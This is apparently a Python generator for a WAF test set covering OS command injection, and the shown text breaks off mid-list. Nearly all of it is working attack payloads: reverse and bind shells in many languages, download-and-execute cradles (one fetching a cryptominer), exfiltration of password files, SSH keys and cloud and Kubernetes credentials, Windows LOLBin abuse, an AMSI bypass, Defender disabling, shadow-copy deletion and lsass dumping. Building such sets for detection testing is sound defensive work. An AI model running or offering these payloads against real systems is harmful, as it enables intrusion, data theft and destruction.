"""Blind set "sixteenth": OS command injection in depth (category "rce"), with benign requests that share its
vocabulary (sysadmins and developers pasting shell sessions, cron lines, Dockerfiles, PowerShell and CI output
into Slack; form values with ampersands, pipes and semicolons; host names, IPs and file names; searches about
commands; links to man pages and Microsoft Learn).

Written independently for this repository by a helper session, from general knowledge of each technique and of
real traffic: no WAF rule of ours, no CRS file or regression test, no other set's payload or text list and no
public payload list (PayloadsAllTheThings, SecLists, fuzzdb, ...) was read or searched. The set was finished
before it was measured, once, and no payload or text was changed after seeing what the WAF blocks.

Attacks: each payload goes into three of the input places of family_gen_blind_php (query, form, JSON, cookie,
header), rotating, with a realistic parameter name rotating alongside. Sub-families: unix separators and
substitutions, unix obfuscation, reverse / bind shells, download-and-execute, exfiltration, Windows cmd,
PowerShell, argument injection into known tools, blind timing probes and short scanner probes. Some payloads
carry literal percent-encodings (%0a, %26, ...): once placed they are double-encoded, as a scanner sends them.
Same record schema as family_gen.py; deterministic (no randomness, no clock).
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import Any

from .family_gen import _get, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, prose_request, three_places
from .records import print_records

SET = "sixteenth"

NAMES = ["host", "ip", "file", "path", "cmd", "domain", "target", "filename", "url", "email", "ping", "exec", "q"]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _ps_enc(text: str) -> str:
    """What powershell -EncodedCommand takes: base64 of the UTF-16LE script."""
    return base64.b64encode(text.encode("utf-16-le")).decode()


_REV = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"

# ; | || & && newlines, $(...) and backticks, appended to a value or standing alone.
UNIX_SEPARATORS = [
    "127.0.0.1; cat /etc/passwd",
    "8.8.8.8 | id",
    "example.com || uname -a",
    "report.pdf && whoami",
    "10.0.0.1 & id &",
    "localhost\nid",
    "192.168.0.1\n/usr/bin/id\n",
    "host-$(whoami).example.com",
    "file`id`.txt",
    "'; id; echo '",
    '"; id; echo "',
    "x' | id #",
    "10.0.0.1;ps aux",
    "foo || cat /proc/self/environ",
    "$(cat /etc/passwd)",
    "`cat /etc/shadow`",
    "test.txt; touch /tmp/pwned",
    "img.png|echo pwned > /var/www/html/p.txt",
    "; echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/c.php",
    "127.0.0.1 && id > /tmp/out.txt",
    "google.com\n\nls -la /var/www",
    "x; cat <(id)",
    "x; /bin/sh -c 'id'",
    "x | /bin/bash -c 'cat /etc/issue'",
    "x; exec /usr/bin/id",
    "google.com; env",
    "; cat ~/.ssh/id_rsa",
    "$(< /etc/passwd)",
    "1.2.3.4'$(id)'",
    '"$(whoami)"',
    "&& id ;",
    "x|id|",
    "; uname -a; id; hostname",
    "localhost;echo $PATH",
    "x; (id)",
    "x; { id; }",
    "$(id)$(hostname)",
    "x;cat /etc/sudoers",
    "report.csv;id #",
    "\nid\n",
    "x; python3 -c 'import os;os.system(\"id\")'",
    "admin@example.com; cat /etc/hosts",
    "https://example.com/logo.png; ls /",
    "x\"|cat /etc/passwd|\"",
    "8.8.8.8 $(ls -la /tmp)",
    "x && cat /var/www/.env",
    "x;find / -perm -4000 -type f 2>/dev/null",
    "x; cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "photo.jpg\ncat /etc/passwd",
    "a\tb;\tid",
]

# Quotes inside words, $IFS, brace expansion, globs, variables and slicing, backslash-newline, decode-and-run.
UNIX_OBFUSCATION = [
    ";c'a't /e'tc'/pa'ss'wd",
    ';c"a"t /etc/pass""wd',
    ";w'h'o'am'i",
    r";wh\oami",
    r";/b\in/c\at /e\tc/pa\sswd",
    ";cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    "127.0.0.1;{cat,/etc/passwd}",
    ";{ls,-la,/}",
    ";/???/c?t /???/p?ss??",
    ";cat /e*/p*d",
    ";/?s?/b??/id",
    ";a=c;b=at;$a$b /etc/passwd",
    ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
    ";cat ${PATH:0:1}etc${PATH:0:1}shadow",
    ";$(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d)",
    ";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    ";echo 'dwssap/cte/ tac' | rev | sh",
    ";echo vq | tr 'a-z' 'n-za-m' | bash",
    ";echo 6964 | xxd -r -p | sh",
    r";$(printf '\x69\x64')",
    r";$(printf '\151\144')",
    r";`printf '\x77\x68\x6f\x61\x6d\x69'`",
    r";$'\x63\x61\x74' /etc/passwd",
    ";c\\\nat /etc/passwd",
    "|i\\\nd",
    r";CMD=$'\x20/etc/passwd';cat$CMD",
    ";IFS=,;`cat<<<cat,/etc/passwd`",
    ";cat</etc/passwd",
    r";X=$'uname\x20-a'&&$X",
    ";who$@ami",
    ";w$(echo)hoami",
    ";i``d",
    ";who${x}ami",
    ";/b'i'n/s'h' -c 'id'",
    ";$0<<<id",
    ";$BASH -c id",
    ";bash<<<$(base64 -d<<<aWQ=)",
    ";${SHELL} -c 'uname -a'",
    ";eval $(echo aWQK|base64 -d)",
    ";$(tr A-Z a-z<<<ID)",
    ";x=WHOAMI;${x,,}",
    ";{echo,aWQ=}|{base64,-d}|{bash,-i}",
    ";ba''sh -c \"i''d\"",
    ";/bin/[c]at /etc/[p]asswd",
    ";cat /etc/pass{w,}d",
    r";l\s -l\a /",
    "%0a/b?n/ca?%20/e??/p??swd",
    "127.0.0.1;cat%09/etc/passwd",
    ";cat\t/etc/passwd",
    ";c${u}at /e${u}tc/pa${u}sswd",
    ";`echo d2hvYW1p|base64 -d`",
    ";xxd -r -p <<< 756e616d65202d61 | bash",
    ";\"c\"\"a\"\"t\" /etc/passwd",
    ";$(rev<<<'imaohw')",
    r";echo -e '\x69\x64' | sh",
    ";eval \"$(printf 'i%s' d)\"",
    r";$'\u0069\u0064'",
    ";/UsR/BiN/Id",
    ";X=${PATH%%:*};${X:0:1}bin${X:0:1}id",
    ";$(echo -n 'aWQ=' | openssl base64 -d)",
    ";echo aWQ= | base32 -d 2>/dev/null || echo NFSA==== | base32 -d | sh",
    "';e\"\"cho $((1337*7));'",
    ";{,ip,a}",
    ";$(printf \"%b\" \"\\0151\\0144\")",
]

# Reverse and bind shells launched from a shell.
SHELLS = [
    ";bash -i >& /dev/tcp/10.10.14.7/4444 0>&1",
    "; bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'",
    ";0<&196;exec 196<>/dev/tcp/198.51.100.9/9001; sh <&196 >&196 2>&196",
    ";exec 5<>/dev/tcp/192.0.2.10/8080;cat <&5 | while read line; do $line 2>&5 >&5; done",
    ";sh -i >& /dev/udp/10.0.0.5/53 0>&1",
    ";nc -e /bin/sh 10.10.14.7 4444",
    "127.0.0.1|nc 10.0.0.1 1234 -e /bin/bash",
    ";ncat 192.0.2.1 4444 -e /bin/bash",
    ";ncat --ssl -e /bin/sh attacker.example 443",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
    ";mknod /tmp/p p && nc 10.9.8.7 80 0</tmp/p | /bin/sh 1>/tmp/p",
    ";nc -lvnp 4444 -e /bin/sh",
    ";busybox nc 10.1.1.1 9999 -e sh",
    ";socat tcp-connect:10.10.14.7:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane",
    ";socat TCP-LISTEN:1337,reuseaddr,fork EXEC:bash",
    ";socat exec:'bash -li',pty,stderr,setsid tcp:198.51.100.20:4444",
    ";perl -e 'use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    ";perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4444\");"
    "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    ";python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    "s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
    "subprocess.call([\"/bin/sh\",\"-i\"])'",
    ";python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"203.0.113.5\",9001));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
    ";python3 -c \"import pty;pty.spawn('/bin/bash')\"",
    ";ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    ";ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"10.0.0.1\",\"4444\");loop{c.gets.chomp!;"
    "(exit! if $_==\"exit\");IO.popen($_,\"r\"){|io|c.print io.read}}'",
    ";php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    ";php -r '$s=fsockopen(\"198.51.100.3\",443);proc_open(\"sh\",array(0=>$s,1=>$s,2=>$s),$pipes);'",
    ";awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c;"
    " if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
    ";gawk 'BEGIN{s=\"/inet/tcp/4444/0/0\";while(1){s|&getline c;while((c|&getline l)>0)print l|&s;close(c)}}'",
    ";telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445",
    ";rm -f /tmp/p; mknod /tmp/p p && telnet 10.0.0.1 80 0</tmp/p | /bin/sh 1>/tmp/p",
    ";lua -e \"require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4444');"
    "os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
    ";node -e 'sh=require(\"child_process\").spawn(\"/bin/sh\");require(\"net\").connect(4444,\"10.0.0.1\","
    "function(){this.pipe(sh.stdin);sh.stdout.pipe(this);sh.stderr.pipe(this)})'",
    ";openssl s_client -quiet -connect 10.0.0.1:443 | /bin/sh 2>&1 | openssl s_client -quiet -connect 10.0.0.1:444",
    ";mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.7:8443 > /tmp/s; rm /tmp/s",
    ";zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    ";/bin/bash -l > /dev/tcp/10.0.0.1/4444 0<&1 2>&1",
    ";bash -c '{echo," + _b64(_REV) + "}|{base64,-d}|{bash,-i}'",
    ";echo " + _b64(_REV) + " | base64 -d | bash",
    ";exec bash -i &>/dev/tcp/10.0.0.1/4444 <&1",
    ";(crontab -l; echo '* * * * * bash -c \"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\"') | crontab -",
    ";echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKx0bBvq8Nw3 op@kali' >> /root/.ssh/authorized_keys",
    ";jrunscript -e 'java.lang.Runtime.getRuntime().exec(\"nc 10.0.0.1 4444 -e /bin/sh\")'",
    ";nohup bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' &",
    ";setsid nc -e /bin/sh 10.0.0.1 4444 &>/dev/null &",
    ";python3 -c 'exec(__import__(\"base64\").b64decode(\"" + _b64("import os;os.system('id')") + "\"))'",
    ";nc 10.0.0.1 4444 | sh | nc 10.0.0.1 4445",
    ";ncat -lvp 4444 --sh-exec /bin/bash",
    ";socat udp-connect:10.0.0.1:53 exec:'sh',pty,stderr",
]

# Fetch a script or binary and run it.
DOWNLOAD_EXEC = [
    ";curl http://203.0.113.9/x.sh | sh",
    ";curl -fsSL https://evil.example/i.sh | bash",
    ";curl -s http://198.51.100.4/a -o /tmp/a; chmod +x /tmp/a; /tmp/a",
    ";wget http://203.0.113.9/bot -O /tmp/bot && chmod 777 /tmp/bot && /tmp/bot",
    ";wget -qO- http://evil.example/s|sh",
    ";wget -q -O - 198.51.100.7/x86 | bash -s",
    ";cd /tmp; wget http://192.0.2.44/mips; chmod +x mips; ./mips",
    ";cd /tmp || cd /var/run || cd /dev/shm; wget http://192.0.2.44/bins.sh; chmod 777 bins.sh; sh bins.sh;"
    " tftp 192.0.2.44 -c get t.sh; sh t.sh",
    ";busybox wget http://192.0.2.8/mozi.m -O /tmp/m; sh /tmp/m",
    ";tftp -g -r x.sh 192.0.2.5; sh x.sh",
    ";fetch -o /tmp/s http://192.0.2.5/s.sh && sh /tmp/s",
    ";lwp-download http://192.0.2.5/x /tmp/x;perl /tmp/x",
    ";GET http://192.0.2.5/p.pl | perl",
    ";bash <(curl -s http://evil.example/p)",
    ";sh -c \"$(curl -fsSL http://evil.example/s)\"",
    ";source <(wget -qO- http://evil.example/env)",
    ";curl http://evil.example/x.py | python3 -",
    ";python -c \"import urllib;exec urllib.urlopen('http://evil.example/x').read()\"",
    ";python3 -c \"import urllib.request as u;exec(u.urlopen('http://198.51.100.2/p').read())\"",
    ";php -r \"eval(file_get_contents('http://evil.example/s.txt'));\"",
    ";perl -MLWP::Simple -e 'getstore(\"http://evil.example/b\",\"/tmp/b\")';perl /tmp/b",
    ";curl -o /var/www/html/shell.php http://evil.example/shell.txt",
    "$(curl -s evil.example/c|sh)",
    "`wget -O- evil.example/c|sh`",
    ";scp attacker@192.0.2.8:/tmp/x /tmp/x && sh /tmp/x",
    ";rsync rsync://192.0.2.8/pub/x /tmp/x;sh /tmp/x",
    ";/usr/bin/curl${IFS}-s${IFS}http://192.0.2.1/x|sh",
    ";dig +short TXT cmd.evil.example | tr -d '\"' | base64 -d | sh",
    ";echo 'curl -s http://evil.example/k|sh' | at now",
    ";(curl -s http://evil.example/m||wget -q -O- http://evil.example/m)|bash",
    ";php -r 'copy(\"http://evil.example/s\",\"/tmp/s\");' && sh /tmp/s",
    ";nc 192.0.2.5 80 > /tmp/x < /dev/null; sh /tmp/x",
    "127.0.0.1 && curl 192.0.2.50:8000/k.sh|bash",
    ";curl -k https://203.0.113.77/xmrig -o /dev/shm/.x && chmod +x /dev/shm/.x && /dev/shm/.x -o pool.example:3333",
    ";wget --no-check-certificate https://evil.example/dropper -O- | sh",
]

# Out-of-band data exfiltration: DNS look-ups, HTTP posts, raw sockets.
EXFIL = [
    ";nslookup `whoami`.x7k2.oast.example",
    ";nslookup $(hostname).attacker.example",
    ";dig $(id -u).q.collab.example",
    ";dig +short $(cat /etc/hostname).d.example.net",
    ";host `uname -n`.exfil.example",
    ";ping -c1 $(whoami).p.example",
    ";for l in $(base64 -w0 /etc/passwd|fold -w 60);do nslookup $l.x.example;done",
    ";curl -d @/etc/passwd http://203.0.113.9/",
    ";curl -X POST --data-binary @/etc/shadow https://evil.example/c",
    ";curl -F 'f=@/root/.ssh/id_rsa' http://evil.example/up",
    ";curl http://evil.example/?d=$(cat /etc/passwd|base64 -w0)",
    ";wget --post-file=/etc/passwd http://evil.example/",
    ";wget --post-data=\"$(env)\" http://evil.example/e",
    ";cat /etc/passwd | nc 198.51.100.4 9999",
    ";tar czf - /var/www | nc 198.51.100.4 9000",
    ";cat /etc/passwd > /dev/tcp/198.51.100.4/80",
    "; curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | curl -d @- http://evil.example",
    ";env | curl -d @- http://evil.example/env",
    ";cat ~/.aws/credentials | curl -X PUT -T - https://evil.example/a",
    ";curl -T /etc/passwd ftp://evil.example/",
    ";scp /etc/passwd x@198.51.100.4:/tmp/",
    ";openssl s_client -connect evil.example:443 < /etc/passwd",
    ";xxd -p /etc/hostname | xargs -I{} dig {}.e.example",
    ";id | base64 | xargs -I% nslookup %.e.example",
    ";curl \"http://evil.example/$(id|base64)\"",
    ";ping -c 1 -p $(xxd -p -l 16 /etc/passwd) 198.51.100.4",
    ";getent hosts $(whoami).e.example",
    ";python3 -c \"import urllib.request,os;urllib.request.urlopen('http://evil.example/?'+os.popen('id').read())\"",
    ";whoami|curl -s -d @- http://e.example/",
    "`dig $(cat /etc/hostname).e.example`",
    "$(nslookup -q=txt $(id -un).e.example)",
    ";printenv | gzip | base64 | curl --data-urlencode d@- https://hooks.evil.example/x",
    ";curl -H \"X-D: $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" http://evil.example",
    ";sqlite3 /var/www/app.db .dump | curl -F f=@- http://198.51.100.4/",
]

# Windows cmd.exe: separators, %COMSPEC%, carets, set /a, for /f, %VAR:~x,y%, LOLBins.
WINDOWS_CMD = [
    "& dir",
    "127.0.0.1 & whoami",
    "127.0.0.1 && ipconfig /all",
    "127.0.0.1 | net user",
    r"x || type C:\Windows\win.ini",
    r"& type C:\boot.ini",
    r"| type %SYSTEMROOT%\win.ini",
    "& net localgroup administrators",
    "& net user hacker P@ss123 /add & net localgroup administrators hacker /add",
    "& echo %USERNAME%",
    "& %COMSPEC% /c whoami",
    "| %ComSpec% /k dir c:\\",
    "& cmd /c \"whoami /priv\"",
    "& c^m^d /c w^h^o^a^m^i",
    "& ip^con^fig",
    "| n^e^t u^s^e^r",
    "& c\"m\"d /c who\"am\"i",
    "& cmd /v:on /c \"set x=whoami&&!x!\"",
    "& set a=who&& set b=ami&& call %a%%b%",
    "& cmd /c \"set /a 7*7\"",
    "& set /a 1337*2",
    "& for /f \"tokens=*\" %i in ('whoami') do @echo %i",
    r"& for /f %a in ('dir /b c:\users') do nslookup %a.e.example",
    "& %ComSpec:~-7,3% /c whoami",
    "& %ProgramFiles:~0,1%%ProgramFiles:~-5,1%d /c hostname",
    r"& certutil -urlcache -split -f http://192.0.2.5/p.exe %TEMP%\p.exe & %TEMP%\p.exe",
    "& certutil.exe -urlcache -f http://evil.example/a.txt a.bat && a.bat",
    r"& bitsadmin /transfer job /download /priority high http://192.0.2.5/x.exe C:\Users\Public\x.exe",
    "& mshta http://evil.example/run.hta",
    "& mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"calc\"\":close\")",
    "& mshta javascript:a=GetObject(\"script:http://evil.example/x.sct\").Exec();close();",
    r'& rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";new ActiveXObject("WScript.Shell").Run("calc")',
    r"& rundll32 \\192.0.2.5\share\x.dll,Entry",
    r"& rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full",
    "& regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll",
    "& wmic process call create \"cmd.exe /c calc\"",
    "& wmic /node:192.0.2.9 process call create \"powershell -nop -w hidden -c whoami\"",
    "& wmic os get /format:\"http://evil.example/x.xsl\"",
    r"& cscript //nologo %TEMP%\x.vbs",
    "& schtasks /create /sc minute /tn upd /tr \"cmd /c calc\"",
    r"& reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v up /d C:\Users\Public\x.exe",
    r"& type %USERPROFILE%\.ssh\id_rsa",
    "& findstr /si password *.xml *.ini *.txt",
    "& netsh advfirewall set allprofiles state off",
    "& vssadmin delete shadows /all /quiet",
    "& msiexec /q /i http://evil.example/x.msi",
    r"& forfiles /p c:\windows\system32 /m notepad.exe /c calc.exe",
    r"& cmd /c start /b \\192.0.2.5\s\nc.exe -e cmd.exe 192.0.2.5 4444",
    "| ping -n 1 %USERNAME%.e.example",
    "& nslookup %COMPUTERNAME%.e.example",
    r"& copy \\192.0.2.5\s\x.exe %TEMP%\x.exe && %TEMP%\x.exe",
    "\"&whoami&\"",
    "'&dir&'",
    r"test.txt & del /f /q C:\inetpub\wwwroot\*",
    "& WHOAMI /ALL",
    "& IpConfig /All",
    "& NeT uSeR administrator",
    r'&echo ^<%@ Page Language="C#" %^> > C:\inetpub\wwwroot\s.aspx',
    "&&cmd /r whoami",
    "& cmd /c \"^w^h^o^a^m^i\"",
    "& cmd,/c,whoami",
    "& cmd /c who\"\"ami",
    r"& esentutl.exe /y \\192.0.2.5\s\x.exe /d c:\temp\x.exe /o",
    r"& curl.exe -o %TEMP%\a.exe http://192.0.2.5/a.exe & %TEMP%\a.exe",
    r"& wscript.exe //E:jscript C:\Users\Public\a.txt",
    r"& C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\Public\build.xml",
    r"& InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\Public\a.dll",
    "%0a%0dwhoami",
    r"|%windir%\system32\cmd.exe /c dir",
    r'& "C:\Windows\System32\cmd.exe" /c type C:\inetpub\wwwroot\web.config',
]

# PowerShell: IEX, download cradles, -enc, web requests, obfuscated cmdlet names.
POWERSHELL = [
    "& powershell -c whoami",
    "| powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command \"Get-Process\"",
    "& powershell IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
    "; powershell -nop -c \"iex(New-Object System.Net.WebClient).DownloadString('http://192.0.2.5/p.ps1')\"",
    "& powershell -enc " + _ps_enc("whoami"),
    "& powershell -e " + _ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.5/r')"),
    "| pwsh -EncodedCommand " + _ps_enc("Get-ChildItem Env: | Out-String"),
    "& powershell -nop -w hidden -ec " + _ps_enc("Start-Process calc.exe"),
    r'& powershell -w hidden -c "Invoke-WebRequest -Uri http://evil.example/x.exe -OutFile $env:TEMP\x.exe; '
    r'Start-Process $env:TEMP\x.exe"',
    r"& powershell iwr http://evil.example/a -o a.exe; .\a.exe",
    "& powershell Start-Process cmd -ArgumentList '/c whoami'",
    "& powershell -c \"I`E`X (nEw-oBjEcT Net.WebClient).DownloadString('http://evil.example/x')\"",
    "& powershell -c \"&('Inv'+'oke-Expr'+'ession') 'whoami'\"",
    "& powershell -c \"& ('I'+'EX') ((New-Object Net.WebClient).('Down'+'loadString')"
    ".Invoke('http://evil.example/x'))\"",
    "& powershell -c \"$c='who'+'ami';iex $c\"",
    r'& powershell "Get-Content C:\Windows\win.ini"',
    "& powershell -c \"[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p'))|iex\"",
    "& powershell -c \"$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);"
    "$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};"
    "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){"
    "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
    "$sendback = (iex $data 2>&1 | Out-String );$sb2=$sendback + 'PS> ';"
    "$sbt = ([text.encoding]::ASCII).GetBytes($sb2);$stream.Write($sbt,0,$sbt.Length);$stream.Flush()};"
    "$client.Close()\"",
    r'& powershell -c "Invoke-RestMethod -Uri http://evil.example/c -Method Post '
    r'-Body (Get-Content C:\Users\Public\s.txt)"',
    "& powershell -c \"(iwr http://evil.example/p -UseBasicParsing).Content | iex\"",
    r'& powershell -c "Start-BitsTransfer -Source http://evil.example/x.exe -Destination C:\Users\Public\x.exe"',
    "& powershell -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"",
    r'& powershell -c "Add-MpPreference -ExclusionPath C:\Users\Public"',
    r"& powershell.exe -ExecutionPolicy Bypass -File \\192.0.2.5\s\r.ps1",
    "& powershell -c \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"
    ".GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\"",
    "& powershell -c \"sal x iex; x 'whoami'\"",
    "& powershell -c \".(gcm *ke-ex*) 'whoami'\"",
    "& powershell -c \"$ExecutionContext.InvokeCommand.InvokeScript('whoami')\"",
    "& powershell -c \"[scriptblock]::Create('whoami').Invoke()\"",
    "& powershell -noni -nop -w 1 -c \"$w=New-Object Net.WebClient;"
    "$w.DownloadFile('http://evil.example/x.exe','x.exe');./x.exe\"",
    "; pwsh -c 'Get-ChildItem /'",
    "& PoWeRsHeLl -NoPrOfIlE -c \"GeT-pRoCeSs\"",
    "& powershell -c \"i''ex 'whoami'\"",
    "& powershell -c \"('whoami')|&('{1}{0}' -f 'ex','i')\"",
    "& powershell -c \"-join('imaohw'[-1..-6])|iex\"",
    "& powershell -c \"iex (-join([char[]](119,104,111,97,109,105)))\"",
    "& powershell -c \"New-LocalUser -Name svc -Password (ConvertTo-SecureString 'P@ss1' -AsPlainText -Force)\"",
    "& powershell -c \"Resolve-DnsName ($env:USERNAME+'.e.example')\"",
    r'| powershell -c "Compress-Archive C:\Users\*\Documents out.zip; '
    r'Invoke-WebRequest -Method Put -InFile out.zip http://evil.example/u"',
    "& powershell -c \"Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc.exe'\"",
    "& powershell -c \"InVoKe-ExPrEsSiOn (iRm http://evil.example/r)\"",
    "& powershell -c \"Start-Process -FilePath powershell -ArgumentList '-nop -w hidden -c iex(iwr evil.example/s)'"
    " -WindowStyle Hidden\"",
    "& powershell -c \"$u='ht'+'tp://evil.example/p';I`nvoke-`WebRe`quest $u -OutFile p.exe\"",
    "& powershell -c \"Set-Alias -Name q -Value Invoke-Expression; q 'net user'\"",
    "& powershell -c \"[Diagnostics.Process]::Start('cmd.exe','/c whoami')\"",
]

# Options smuggled into a tool the application runs with the value as an argument.
ARGUMENT_INJECTION = [
    "-o /var/www/html/shell.php http://evil.example/shell.txt",
    "http://evil.example/s.txt -o /var/www/html/s.php",
    "-K /tmp/curlrc http://example.com",
    "http://example.com -K /etc/passwd",
    "--output /etc/cron.d/x http://evil.example/cron",
    "-F x=@/etc/passwd http://evil.example/",
    "--data @/etc/passwd http://evil.example",
    "-O /var/www/html/x.php http://evil.example/x",
    "--post-file=/etc/passwd http://evil.example/",
    "-e use_proxy=on -e http_proxy=evil.example:8080 http://internal.example",
    "--output-document=/var/www/html/x.php http://evil.example/x",
    "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
    "--checkpoint=1 --checkpoint-action=exec='bash -c \"id>/tmp/o\"'",
    "--to-command='sh -c id'",
    "--use-compress-program='sh -c id'",
    "-I 'sh -c id' -cf /tmp/x.tar /etc/hostname",
    ". -exec id \\;",
    "/tmp -name x -exec sh -c 'id' {} +",
    "x -execdir /bin/sh -c id ;",
    "/ -fprintf /var/www/html/x.php '<?php system($_GET[1]);?>' -quit",
    "-c core.sshCommand='sh -c id' clone git@x.example:y",
    "--upload-pack='touch /tmp/pwn' .",
    "--upload-pack=sh -c 'id>&2' x",
    "-c protocol.ext.allow=always clone 'ext::sh -c id% >&2'",
    "ext::sh -c touch% /tmp/pwned",
    "-c core.pager='sh -c id' log",
    "-c core.fsmonitor='sh -c id' status",
    "-oProxyCommand=sh -c 'id>/tmp/x' x",
    "-o ProxyCommand='bash -c \"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\"' user@host",
    "-oLocalCommand=id -oPermitLocalCommand=yes host.example",
    "'-oProxyCommand=curl http://evil.example/p|sh' x",
    "x.zip -T -TT 'sh -c id #'",
    "-T --unzip-command='sh -c id' x.zip",
    "-X/var/www/html/s.php -OQueueDirectory=/tmp",
    "attacker@example.com -OQueueDirectory=/tmp -X/var/www/html/log.php",
    "a@example.com -be ${run{/bin/sh -c id}}",
    "-e 'sh -c id' x:/tmp",
    "--rsh='sh -c id' a b",
    "--rsync-path='sh -c id' host:/x",
    "-e 'sh -c \"id >&2\"' localhost:/ /tmp",
    "-iL /etc/passwd -oN /var/www/html/x.txt",
    "--script=/tmp/x.nse 127.0.0.1",
    "-i eth0 -G 1 -W 1 -w /tmp/a -z /tmp/x.sh",
    "-z 'sh -c id' -G 1 -W 1 -w /dev/null",
    "-F /tmp/evil_ssh_config host.example",
    "--pre-invoke='id' -i x.deb",
    "-exec /bin/sh -p \\; -quit",
    "-Q \"-cm:bash -c 'id'\"",
]

# Blind probes that only take time.
TIMING = [
    ";sleep 10",
    "| sleep 5",
    "& sleep 7 &",
    "&& sleep 11",
    "$(sleep 5)",
    "`sleep 5`",
    "127.0.0.1; sleep 20 #",
    "x'; sleep 5; echo '",
    "x\"; sleep 5; echo \"",
    ";sleep${IFS}10",
    ";/bin/sleep 15",
    "; ping -c 10 127.0.0.1",
    "| ping -c 21 127.0.0.1",
    "|ping -n 11 localhost",
    "& timeout /t 10",
    "& timeout /T 5 /nobreak",
    "& waitfor /t 10 pause",
    "| powershell -c sleep 8",
    "& powershell -c \"Start-Sleep -s 10\"",
    "$(sleep${IFS}3)",
    ";perl -e 'sleep 6'",
    ";python3 -c 'import time;time.sleep(6)'",
    "; sleep $((2*5))",
    ";s'l'eep 5",
    "`sleep\t4`",
    "%0asleep 10%0a",
    "\nsleep 10\n",
    ";ping -w 10 127.0.0.1",
    ";if [ $(whoami|cut -c1) = r ]; then sleep 5; fi",
    ";[ -f /etc/passwd ] && sleep 5",
    "& ping -n 6 ::1 >nul",
    "| ping 127.0.0.1 -n 9 > nul",
    "';sleep 5;'",
    "1;sleep 0x0a",
]

# Short automated-scanner probes, often appended to an existing value or URL-encoded once more.
SCANNER = [
    ";id",
    "|id",
    "||id",
    "&id",
    "&&id",
    "`id`",
    "$(id)",
    ";whoami",
    "|whoami",
    "`whoami`",
    "$(whoami)",
    "|uname -a",
    ";echo 9c4b2ad3a6",
    "|echo zxuyyt$((37*91))zxuyyt",
    "$(echo q7b$((3*7))q7b)",
    "`echo h32k;echo k23h`",
    ";expr 887541 + 1",
    "|expr 1337 \\* 1337",
    "& set /a 92148*31 &",
    "&echo bqx%USERNAME%bqx&",
    ";cat /etc/passwd",
    "|cat /etc/passwd",
    "%0Aid",
    "%3Bid",
    "%26%26id",
    "%60id%60",
    "%24(id)",
    "1%0A/usr/bin/id",
    ";/usr/bin/id",
